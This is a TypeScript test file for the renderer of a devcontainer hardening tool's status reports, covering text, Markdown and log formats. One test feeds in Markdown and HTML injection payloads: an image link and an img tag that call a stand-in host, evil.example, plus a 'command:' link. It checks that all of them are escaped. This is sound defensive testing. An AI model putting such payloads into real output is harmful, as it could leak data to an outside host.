import { strict as assert } from 'node:assert';
import { checkLines, renderMarkdownReport, renderReport, summaryLine, verdict } from '../../src/ops/render';
import type { StatusReport } from '../../src/ops/status';

const report: StatusReport = {
  workspaceFolder: '/w/app', configFile: '/w/app/.devcontainer/devcontainer.json', runtime: 'docker',
  container: { id: 'c0ffee', name: 'hdc-app-1', status: 'running', running: true, remoteUser: 'vscode', remoteWorkspaceFolder: '/workspaces/app' },
  checks: [
    { name: 'firewall', ok: true, evidence: 'OUTPUT policy IPv4 DROP' },
    { name: 'rootless engine', ok: true, warning: true, evidence: 'docker runs as root' },
    { name: 'sudo', ok: false, evidence: 'sudo -n true SUCCEEDED | really' },
  ],
  ok: false,
};
const passed: StatusReport = { ...report, checks: report.checks.slice(0, 2), ok: true };
const clean: StatusReport = { ...report, checks: report.checks.slice(0, 1), ok: true };
const stopped: StatusReport = { ...report, container: { ...report.container!, status: 'exited', running: false }, checks: [], ok: false };

/** One renderer for `hdc status`, the editor's report and its log: marks, lines, verdicts. */
describe('check rendering', () => {
  it('hdc status: a mark, the name padded, the evidence; the verdict when the container runs', () => {
    assert.equal(renderReport(report), [
      '/w/app (docker): hdc-app-1 running',
      '  ✓ firewall         OUTPUT policy IPv4 DROP',
      '  ! rootless engine  docker runs as root',
      '  ✗ sudo             sudo -n true SUCCEEDED | really',
      'NOT hardened: see the ✗ lines', ''].join('\n'));
    assert.match(renderReport(clean), /\nhardened: every check passed\n$/);
    // A passed report with a warning never says "every check passed".
    assert.match(renderReport(passed), /\nhardened: passed, with 1 warning \(the ! lines\)\n$/);
    assert.equal(renderReport(stopped), '/w/app (docker): hdc-app-1 exited\n');
    assert.equal(renderReport({ ...stopped, container: null }), '/w/app (docker): no container\n');
  });

  it('the editor\'s report: a Markdown table, pipes escaped', () => {
    assert.equal(renderMarkdownReport(report, 'app'), [
      '# Hardening report: app', '', 'Container `hdc-app-1` (docker) is running.', '',
      '| | guarantee | evidence |', '| --- | --- | --- |',
      '| ✅ | firewall | OUTPUT policy IPv4 DROP |', '| ⚠️ | rootless engine | docker runs as root |', '| ❌ | sudo | sudo \\-n true SUCCEEDED \\| really |', '',
      '**Not hardened: see the ❌ rows.**'].join('\n'));
    assert.equal(summaryLine(clean, 'markdown'), '**Hardened: every check passed.**');
    assert.equal(summaryLine(passed, 'markdown'), '**Hardened: passed, with 1 warning** (the ⚠️ rows).');
    assert.equal(verdict(passed, 'log'), 'hardened: passed, with 1 warning');
    // The container's words (su's stderr, a mount path) are shown, never rendered: no image the preview would fetch, no link, no HTML.
    const hostile = renderMarkdownReport({ ...report, checks: [{ name: 'sudo', ok: true, evidence: 'fails (exit 1: ![x](https://evil.example/?d=1) <img src=https://evil.example/p> [ok](command:x)\n| row |)' }] }, 'app');
    assert.ok(hostile.includes('\\!\\[x\\]\\(https\\:\\/\\/evil\\.example\\/\\?d\\=1\\)'));
    assert.ok(hostile.includes('\\<img src\\=https\\:\\/\\/evil\\.example\\/p\\>'));
    assert.ok(!/[^\\][[\]()<>]/.test(hostile.split('\n').find((l) => l.includes('evil'))!.replace(/^\| ✅ \| sudo \| /, ' ')));
    assert.equal(renderMarkdownReport({ ...stopped, container: null }, 'app'), '# Hardening report: app\n\nNo docker container for this folder.\n\n');
  });

  it('the log after up: a word for the mark; the failed checks in the verdict', () => {
    assert.deepEqual(checkLines(report, 'log'), ['check ok: firewall: OUTPUT policy IPv4 DROP', 'warning: rootless engine: docker runs as root', 'CHECK FAILED: sudo: sudo -n true SUCCEEDED | really']);
    assert.equal(verdict(report, 'log'), 'Not hardened: sudo (sudo -n true SUCCEEDED | really)');
    assert.equal(summaryLine(stopped, 'log'), undefined);
  });
});
